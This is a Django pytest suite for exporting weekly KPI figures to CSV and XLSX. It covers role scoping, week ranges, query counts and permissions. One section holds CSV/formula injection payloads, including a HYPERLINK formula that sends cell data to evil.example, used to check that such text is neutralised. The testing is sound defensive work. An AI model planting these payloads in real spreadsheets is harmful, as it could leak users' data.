"""Export of weekly figures (XLSX and CSV): scope, columns, week range, formula neutralisation, roles, queries."""

import html
from datetime import date, datetime, timedelta
from decimal import Decimal

import pytest
from django.urls import reverse

from kpis import metrics, services
from tests import factories
from tests.kpis.files import sheets

EXPORT = reverse("kpis:export")
MARCH_6 = date(2017, 3, 6)
FIXED_HEAD, STATE = ["工号", "姓名", "团队", "周"], "状态"


@pytest.fixture
def client(client):
    """Pages in English, so the assertions read the messages' source text whatever gets translated."""
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    return client


def save(by, rep, week: date, *figures: str) -> None:
    values = dict(zip([m.code for m in metrics.ENTERED], figures or sheets.FIGURES, strict=True))
    services.weekly_figures_save(week=week, rows=[services.RepWeekInput(rep.pk, values)], by=by.user, channel="grid")


def export(client, who, **params) -> list[list]:
    client.force_login(who.user)
    response = client.get(EXPORT, {"first": "2017-02-06", "last": "2017-12-25", "format": "csv", **params})
    assert response.status_code == 200, response.content[:500]
    if params.get("format") == "xlsx":
        return sheets.read_xlsx(response.content)
    return sheets.read_csv(response.content)


def test_a_manager_exports_only_their_teams_figures(client, org):
    save(org.manager_a, org.rep_a, MARCH_6)
    save(org.manager_b, org.rep_b, MARCH_6)
    rows = export(client, org.manager_a)
    assert rows[0] == [*FIXED_HEAD, *[m.label_zh for m in metrics.ENTERED], STATE]
    assert rows[1:] == [[org.rep_a.employee_number, "甲队员", "先锋队", "2017-03-06", "3", "5", "2", "10000.50",
                         "5000.00", "80000.00", "Draft"]]


def test_the_director_exports_one_team_or_all(client, org):
    save(org.manager_a, org.rep_a, MARCH_6)
    save(org.manager_b, org.rep_b, MARCH_6)
    assert [r[0] for r in export(client, org.director, team=org.team_b.pk)[1:]] == [org.rep_b.employee_number]
    assert len(export(client, org.general_manager)) == 3


def test_the_export_keeps_the_week_range_and_the_chosen_metrics(client, org):
    for week in (MARCH_6, MARCH_6 + timedelta(weeks=1), MARCH_6 + timedelta(weeks=2)):
        save(org.manager_a, org.rep_a, week)
    # Any day of a week stands for its Monday: 8 March is in the week of 6 March, 14 March in that of the 13th.
    rows = export(client, org.hr, first="2017-03-08", last="2017-03-14", metric=["trading_volume", "accounts_opened"])
    assert rows[0] == [*FIXED_HEAD, "开户客户数量", "客户交易量", STATE]
    assert [(r[3], r[4], r[5]) for r in rows[1:]] == [("2017-03-06", "2", "80000.00"), ("2017-03-13", "2", "80000.00")]


def test_xlsx_cells_are_numbers_and_dates(client, org):
    save(org.manager_a, org.rep_a, MARCH_6)
    row = export(client, org.manager_a, format="xlsx")[1]
    assert row[3] == datetime(2017, 3, 6) and row[4] == 3 and Decimal(str(row[7])) == Decimal("10000.5")


def test_an_export_of_every_metric_imports_again_unchanged(client, org):
    save(org.manager_a, org.rep_a, MARCH_6)
    client.force_login(org.manager_a.user)
    exported = client.get(EXPORT, {"first": "2017-03-06", "last": "2017-03-06", "format": "xlsx"})
    file = sheets.SimpleUploadedFile("export.xlsx", exported.content)
    preview = client.post(reverse("kpis:import"), {"file": file}).context["preview"]
    assert [r.status for r in preview.rows] == ["unchanged"] and preview.sheet.ignored == ["团队", "状态"]


def test_an_inverted_week_range_is_refused_on_the_page(client, org):
    client.force_login(org.manager_a.user)
    response = client.get(EXPORT, {"first": "2017-03-13", "last": "2017-03-06", "format": "csv"})
    assert response["Content-Type"].startswith("text/html")
    assert "The last week comes before the first." in html.unescape(response.content.decode())


# --- text that a spreadsheet could run is neutralised ---------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("name", FORMULAS)
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_name_that_is_a_formula_is_exported_as_text(client, org, name, file_format):
    rep = factories.employee(team=org.team_a, name=name)
    save(org.manager_a, rep, MARCH_6)
    client.force_login(org.manager_a.user)
    response = client.get(EXPORT, {"first": "2017-03-06", "last": "2017-03-06", "format": file_format})
    if file_format == "csv":
        names = [r[1] for r in sheets.read_csv(response.content)[1:]]
    else:
        book = sheets.openpyxl.load_workbook(sheets.io.BytesIO(response.content))
        cells = [row[1] for row in book.active.iter_rows(min_row=2)]
        assert {c.data_type for c in cells} == {"s"}  # text, never "f" (a formula)
        names = [c.value.replace("\n", "\r") for c in cells]  # XML reads a stored carriage return back as LF
    assert names == ["'" + name]


def test_a_team_name_and_the_template_are_neutralised_too(client, org):
    team = factories.TeamFactory(name="=1+1")
    rep = factories.employee(team=team, name="@cmd")
    save(org.director, rep, MARCH_6)
    assert export(client, org.director, team=team.pk)[1][1:3] == ["'@cmd", "'=1+1"]
    template = client.get(reverse("kpis:import_template"), {"team": team.pk, "week": "2017-03-06", "format": "csv"})
    assert sheets.read_csv(template.content)[1][1] == "'@cmd"


# --- queries and roles ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("weeks", [1, 8])
def test_the_export_reads_in_one_query_whatever_its_size(client, org, django_assert_num_queries, weeks):
    for n in range(weeks):
        for rep in (org.rep_a, org.rep_b):
            save(org.director, rep, MARCH_6 + timedelta(weeks=n))
    client.force_login(org.director.user)
    # 1 session, 2 user, 3 the principal, 4 the figures with their rep, team and author (one join), 5 the access
    # event recording the export.
    with django_assert_num_queries(5):
        response = client.get(EXPORT, {"first": "2017-02-06", "last": "2017-12-25", "format": "csv"})
    assert len(sheets.read_csv(response.content)) == 1 + 2 * weeks


ROLES = ["director", "general_manager", "hr", "manager_a", "manager_b", "rep_a"]
MATRIX = {
    "export": [200, 200, 200, 200, 200, 403],
    "export_team_a": [200, 200, 200, 200, 404, 403],
    "download_team_a": [200, 200, 200, 200, 404, 403],
}


def params_of(page: str, org) -> dict:
    return {"export": {}, "export_team_a": {"team": org.team_a.pk},
            "download_team_a": {"team": org.team_a.pk, "first": "2017-03-06", "last": "2017-03-06",
                                "format": "xlsx"}}[page]


@pytest.mark.parametrize(("page", "role", "status"),
                         [(p, r, s) for p, row in MATRIX.items() for r, s in zip(ROLES, row, strict=True)])
def test_permission_matrix(client, org, page, role, status):
    client.force_login(org.by_role(role).user)
    assert client.get(EXPORT, params_of(page, org)).status_code == status


@pytest.mark.parametrize("page", list(MATRIX))
def test_anonymous_goes_to_log_in(client, org, page):
    assert client.get(EXPORT, params_of(page, org)).url.startswith(reverse("login"))


def test_the_export_page_offers_every_metric_and_the_visible_teams(client, org):
    client.force_login(org.manager_a.user)
    response = client.get(EXPORT)
    page = response.content.decode()
    assert all(m.label_en in page for m in metrics.ENTERED)
    assert "先锋队" in page and "猛虎队" not in page
